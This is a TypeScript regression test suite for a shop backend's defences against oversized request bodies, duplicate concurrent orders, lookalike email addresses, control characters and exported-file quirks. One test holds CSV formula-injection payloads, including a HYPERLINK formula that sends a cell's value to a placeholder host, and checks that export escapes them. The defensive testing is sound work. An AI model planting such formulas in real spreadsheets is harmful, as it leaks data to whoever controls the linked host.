import { ADDRESSES, addressOf, ENDPOINTS, type Endpoint, type EndpointName } from '@novalex/contract'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import Papa from 'papaparse'
import { readRecords } from '../platform/files/readRecords.ts'
import { writeTable } from '../platform/files/writeTable.ts'
import { createDraft, createTestServer, PRODUCTS, type TestServer } from '../testing/createTestServer.ts'
import { BUYER, createOrderBody, offerParcels, place, releaseAll, visit } from '../testing/placeOrders.ts'

/** Regression tests for attacks from outside. */

let server: TestServer
beforeAll(async () => {
  server = await createTestServer(inject('databaseUrl'), { isDemo: true })
  await offerParcels(server)
  await releaseAll(server, createDraft({ schedule: {} }))
})
afterAll(() => server.close())

const LONG = 62_000
/** A body in which every text of the schema is the same one. */
function fill(schema: unknown, text: string, depth = 0): unknown {
  const {
    type,
    properties,
    items,
    anyOf,
    oneOf,
    enum: choices,
  } = (schema ?? {}) as {
    type?: string
    properties?: Record<string, unknown>
    items?: unknown
    anyOf?: unknown[]
    oneOf?: unknown[]
    enum?: unknown[]
  }
  if (depth > 6) return null
  if (choices) return choices[0]
  if (anyOf ?? oneOf) return fill((anyOf ?? oneOf)![0], text, depth + 1)
  if (type === 'object')
    return Object.fromEntries(Object.entries(properties ?? {}).map(([key, one]) => [key, fill(one, text, depth + 1)]))
  if (type === 'array') return [fill(items, text, depth + 1)]
  if (type === 'integer' || type === 'number') return 1
  return type === 'boolean' ? true : text
}

const BODIES = (Object.keys(ADDRESSES) as EndpointName[]).flatMap((name) => {
  const { body }: Endpoint = ENDPOINTS[name]
  return body ? [{ ...addressOf(name), body }] : []
})

describe('a body of 64 kB', () => {
  test.each([
    ['text that almost fits', (length: number) => `${'x'.repeat(length)}\u0001`],
    ['spaces', (length: number) => `${' '.repeat(length)}\u0001`],
  ])('of %s is answered by every endpoint, while others are answered', async (_label, write) => {
    expect(BODIES.length).toBeGreaterThan(40)
    const askAll = async (length: number) => {
      const start = performance.now()
      for (const { method, path, body } of BODIES) {
        const share = Math.max(
          1,
          Math.floor(length / Math.max(1, (JSON.stringify(fill(body, 'x')).match(/"x"/g) ?? []).length)),
        )
        const { status } = await server.request(
          method,
          `/api${path.replaceAll(/:\w+/g, 'x')}`,
          fill(body, write(share)),
          { cookie: '' },
        )
        expect(status).toBeLessThan(500)
      }
      return performance.now() - start
    }
    await askAll(10)
    const ordinary = await askAll(10)
    const [hostile, beats] = await Promise.all([
      askAll(LONG),
      // The longest that /healthz had to wait.
      (async () => {
        let longest = 0
        for (let beat = 0; beat < 20; beat++) {
          const start = performance.now()
          expect((await server.request('GET', '/healthz')).status).toBe(200)
          longest = Math.max(longest, performance.now() - start)
        }
        return longest
      })(),
    ])
    expect(hostile / ordinary).toBeLessThan(20)
    expect(beats / ordinary).toBeLessThan(1)
  })

  test('as the name of who orders is refused at its place', async () => {
    const visitor = await visit(server)
    const buyer = { ...BUYER, name: `${'x'.repeat(LONG)}\u0001` }
    const { status, body } = await place(server, visitor, { ...createOrderBody({ 'INK-1': 1 }, 0), buyer })
    expect([status, body.error.problems[0]]).toMatchObject([422, { code: 'too-long', path: 'buyer.name' }])
  })
})

test('a large order is placed by a thread, once, and refused as a small one is', async () => {
  // Uncounted.
  await server.database('stock').delete()
  await server.database('store').increment('catalogue_revision', 1)
  const lines = Array.from({ length: 150 }, (_none, at) => ({ sku: PRODUCTS[at % 3]!.sku, quantity: 1 }))
  const visitor = await visit(server)
  const order = (grand: number) => ({ ...createOrderBody({}, grand), cart: { ...createOrderBody({}, 0).cart, lines } })
  const refused = await place(server, visitor, order(0), 'large')
  expect(refused).toMatchObject({ status: 409, body: { error: { code: 'price-changed' } } })
  const { grand } = refused.body.error.facts.receipt as { grand: number }
  const answers = await Promise.all([0, 1, 2].map(() => place(server, visitor, order(grand), 'large')))
  expect(answers.map(({ status }) => status)).toEqual([201, 201, 201])
  expect(new Set(answers.map(({ body }) => body.order.id)).size).toBe(1)
  expect((await place(server, visitor, order(grand + 1), 'large')).body.error.code).toBe('key-reused')
})

describe('addresses', () => {
  test.each([
    '(c)mara@fenn.test', 'mara(c)@fenn.test', 'x1:mara@fenn.test', '[x]@fenn.test', 'a\\b@fenn.test', 'a\u200bb@fenn.test', 'a\u00adb@fenn.test',
    'a\u202eb@fenn.test', '.mara@fenn.test', 'mara.@fenn.test', 'ma..ra@fenn.test', 'ｍａｒａ@fenn.test', 'mára@fenn.test', 'a\ufffe@fenn.test', '+x@fenn.test',
  ])('%j is none', async (email) => {
    const { status, body } = await place(server, await visit(server), { ...createOrderBody({ 'INK-1': 1 }, 99_999), buyer: { ...BUYER, email } })
    expect([status, body.error.problems[0].code]).toEqual([422, 'not-an-email'])
  }) // oxfmt-ignore

  test('erasing one leaves another that differs by an accent', async () => {
    const [first] = (await server.database('orders').select('id')) as { id: number }[]
    const clone = async (email: string, number: string) => {
      const { id: _id, ...row } = (await server.database('orders').where({ id: first!.id }).first()) as Record<
        string,
        unknown
      >
      await server.database('orders').insert({ ...row, number, request_key: number, email, name: 'Somebody' })
    }
    await clone('jose1@x.test', '270308-AAAAAA')
    await clone('josé1@x.test', '270308-BBBBBB')
    const left = () =>
      server
        .database('orders')
        .whereNotNull('email')
        .whereIn('number', ['270308-AAAAAA', '270308-BBBBBB'])
        .pluck('number')
    await server.request('POST', '/api/contacts/forget', { email: 'jose1@x.test' })
    expect(await left()).toEqual(['270308-BBBBBB'])
    await server.request('POST', '/api/contacts/forget', { email: 'JOSÉ1@x.test' })
    expect(await left()).toEqual([])
  })
})

test('no cell of a file that goes out begins like a formula, whatever lines it has', async () => {
  const cells = ['=1+1\u2028foo', '=HYPERLINK("http://x.test/?"&A1,"x")\n2', '@a\r\nb', '+1', '-1\n']
  const bytes = await writeTable({ columns: ['a'], numbers: [], rows: cells.map((cell) => [cell]) }, 'csv')
  for (const cell of Papa.parse<string[]>(bytes.toString()).data.slice(1, 6).flat()) expect(cell).toMatch(/^'[=@+-]/)
  expect((await readRecords(bytes)).slice(1).flat()).toEqual(cells)
})

test('what no XML file may hold breaks no workbook', async () => {
  await server.database('products').where({ sku: 'PAD-1' }).update({ name: 'Pad \ufffe\u0001' })
  const answer = await fetch(`${server.url}/api/files/products.xlsx`, { headers: { cookie: server.cookie } })
  const records = await readRecords(new Uint8Array(await answer.arrayBuffer()))
  expect(records.flat()).toContain('Pad \ufffd\ufffd')
})

test.each(['a\ufffe', 'a\u0000', 'a\u001b', 'two\nlines', 'a\u2028b'])('a name like %j is refused', async (name) => {
  for (const [path, body] of [
    ['/campaigns', { name, goal: '' }],
    ['/promotions', createDraft({ name })],
  ] as const)
    expect((await server.request('POST', `/api${path}`, body)).body.error.problems[0]).toMatchObject({
      code: 'malformed',
      path: 'name',
    })
})

test('a closed shop takes keys alone, and lets staff look', async () => {
  const closed = await createTestServer(inject('databaseUrl'), { isShopOpen: false })
  const { key: secret } = (
    await closed.request('POST', '/api/keys', {
      name: 'Till',
      scopes: ['quote', 'orders'],
      channel: 'web',
      endsAt: null,
    })
  ).body
  const key = { cookie: '', authorization: `Bearer ${secret}` }
  const cart = { cart: { lines: [{ sku: 'PAD-1', quantity: 1 }], codes: [], delivery: null } }
  const headers = { 'idempotency-key': 'one' }
  const ask = async (own: Record<string, string>) => [
    (await closed.request('GET', '/api/shop', undefined, own)).status,
    (await closed.request('GET', '/api/shop/products', undefined, own)).status,
    (await closed.request('POST', '/api/shop/cart', cart, own)).status,
    (await closed.request('POST', '/api/shop/orders', createOrderBody({ 'PAD-1': 1 }, 0), { ...own, ...headers }))
      .status,
  ]
  expect(await ask({ cookie: '' })).toEqual([403, 403, 403, 403])
  expect(await ask({})).toEqual([200, 200, 200, 403])
  // No release yet and no parcels: what a key's order lacks is told.
  expect(await ask(key)).toEqual([200, 200, 200, 422])
  await closed.close()
})
